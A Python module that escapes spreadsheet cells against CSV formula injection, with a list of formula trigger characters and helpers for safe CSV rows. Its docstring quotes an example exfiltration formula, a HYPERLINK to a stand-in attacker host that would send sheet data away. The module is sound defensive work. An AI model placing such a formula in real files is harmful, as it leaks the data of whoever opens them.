"""Cells that are safe to open in a spreadsheet (CSV injection).

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a formula
(and a leading tab or carriage return can hide such a start), so a text like
`=HYPERLINK("https://evil.example/?d="&A1,"Click")` in a downloaded CSV would become a live link
that sends the sheet's data away. OWASP's rule
(https://owasp.org/www-community/attacks/CSV_Injection): prefix such a cell with a single quote,
which spreadsheets show as text and do not display. Every CSV the project writes for people to
download passes its text cells through `spreadsheet_safe`.

The tables themselves refuse such cells (`geodata.tables`); this is the second line of defence,
for text that comes from elsewhere (ICE's sheets, the Census files).
"""

from __future__ import annotations

from collections.abc import Mapping

#: first characters that make a spreadsheet read a cell as a formula
FORMULA_TRIGGERS = frozenset("=+-@\t\r")


def starts_like_formula(value: str) -> bool:
    """Whether a spreadsheet could take `value` for a formula: its first character, or the first after
    leading spaces, is one of FORMULA_TRIGGERS."""
    return value.lstrip(" ")[:1] in FORMULA_TRIGGERS


def spreadsheet_safe(value: str) -> str:
    """`value` with a `'` in front if a spreadsheet would read it as a formula, else unchanged.

    >>> print(spreadsheet_safe("=1+2"), spreadsheet_safe("-5"), spreadsheet_safe("Los Angeles"))
    '=1+2 '-5 Los Angeles

    Meant for text columns: a negative number would gain the quote too, so leave numeric columns out.
    """
    return "'" + value if starts_like_formula(value) else value


def spreadsheet_safe_row(row: Mapping[str, object]) -> dict[str, object]:
    """A copy of a CSV row (as for csv.DictWriter) with every str value passed through `spreadsheet_safe`;
    other values (numbers, None) are left as they are."""
    return {key: spreadsheet_safe(value) if isinstance(value, str) else value for key, value in row.items()}
